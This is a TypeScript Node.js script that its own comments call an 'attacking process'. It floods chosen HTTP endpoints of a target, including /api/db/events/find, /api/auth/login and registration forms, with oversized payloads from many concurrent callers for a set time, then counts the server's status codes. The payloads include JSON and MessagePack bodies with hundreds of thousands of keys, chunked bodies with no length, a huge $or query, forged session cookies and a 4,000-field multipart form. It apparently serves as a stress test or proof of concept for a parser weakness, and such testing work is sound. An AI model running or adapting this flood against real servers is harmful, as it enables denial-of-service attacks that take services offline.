import http from 'node:http'

/** The instructions of the attacking process. */
export type Flood = {
  readonly address: string
  readonly callers: number
  readonly seconds: number
}

/** The server's answers: the number of each status; 0 for a connection it closed. */
export type Flooded = { readonly statuses: Readonly<Record<string, number>> }

type Attack = {
  readonly path: string
  readonly body: Buffer
  readonly headers: Readonly<Record<string, string>>
  /** Sent without a Content-Length. */
  readonly chunked?: boolean
}

const json = { 'Content-Type': 'application/json', Accept: 'application/json' }
const form = { 'Content-Type': 'application/x-www-form-urlencoded' }

/** `{query: {k0: 1, …}}` with so many keys. */
function keys(count: number): Buffer {
  const entries = Array.from({ length: count }, (_, n) => `"k${n}":1`)
  return Buffer.from(`{"query":{${entries.join(',')}}}`)
}

/** The same as MessagePack: a map of one key with a map of 32-bit length. */
function packedKeys(count: number): Buffer {
  const head = Buffer.from([0x81, 0xa5, ...Buffer.from('query'), 0xdf, 0, 0, 0, 0])
  head.writeUInt32BE(count, head.length - 4)
  const entries = Array.from({ length: count }, (_, n) => {
    const key = Buffer.from(`k${n}`)
    return Buffer.from([0xa0 | key.length, ...key, 1])
  })
  return Buffer.concat([head, ...entries])
}

const multipart = Array.from(
  { length: 4_000 },
  (_, n) => `--x\r\nContent-Disposition: form-data; name="a${n}"\r\n\r\n\r\n`,
).join('')

/** What is heavy in each its own way: the body of the fault, and what is left when it is cut to the limits. */
const attacks: readonly Attack[] = [
  { path: '/api/db/events/find', body: keys(800_000), headers: json },
  { path: '/api/db/events/find', body: keys(800_000), headers: json, chunked: true },
  { path: '/api/db/events/find', body: keys(22_000), headers: json },
  { path: '/api/db/events/find', body: keys(4_900), headers: json },
  {
    path: '/api/db/events/find',
    body: packedKeys(30_000),
    headers: { 'Content-Type': 'application/msgpack' },
  },
  {
    path: '/api/db/events/find',
    body: Buffer.from(
      JSON.stringify({
        query: {
          $or: Array.from({ length: 1_600 }, (_, n) => ({ 'title.en': { $gt: `${n}` }, level: 'x' })),
        },
      }),
    ),
    headers: json,
  },
  {
    path: '/api/db/events/find',
    body: keys(60_000),
    headers: { ...json, Cookie: 'session=forged; __Host-session=forged' },
  },
  { path: '/api/db/regs/save', body: keys(4_900), headers: json },
  { path: '/api/auth/login', body: keys(800_000), headers: json },
  { path: '/api/auth/login', body: keys(20_000), headers: json },
  { path: '/EN/register', body: Buffer.from('a&'.repeat(131_000)), headers: form },
  { path: '/EN/register.data', body: Buffer.from('a&'.repeat(500_000)), headers: form },
  {
    path: '/EN/volunteer',
    body: Buffer.from(`${multipart}--x--\r\n`),
    headers: { 'Content-Type': 'multipart/form-data; boundary=x' },
  },
]

const { address, callers, seconds } = JSON.parse(process.argv[2] ?? '{}') as Flood
const { hostname, port } = new URL(address)
const agent = new http.Agent({ keepAlive: true, maxSockets: callers })
const statuses: Record<string, number> = {}
const end = performance.now() + seconds * 1_000
let next = 0

async function call(): Promise<void> {
  while (performance.now() < end) {
    const attack = attacks[next % attacks.length]
    next += 1
    if (!attack) return
    const status = await send(attack)
    statuses[status] = (statuses[status] ?? 0) + 1
  }
}

function send({ path, body, headers, chunked = false }: Attack): Promise<number> {
  return new Promise((resolve) => {
    const length = chunked ? {} : { 'Content-Length': String(body.length) }
    const options = { agent, hostname, port, path, method: 'POST', headers: { ...headers, ...length } }
    const request = http.request(options, (response) => {
      response.resume()
      response.on('close', () => resolve(response.statusCode ?? 0))
    })
    request.on('error', () => resolve(0))
    request.end(body)
  })
}

await Promise.all(Array.from({ length: callers }, call))
agent.destroy()
process.stdout.write(JSON.stringify({ statuses } satisfies Flooded))
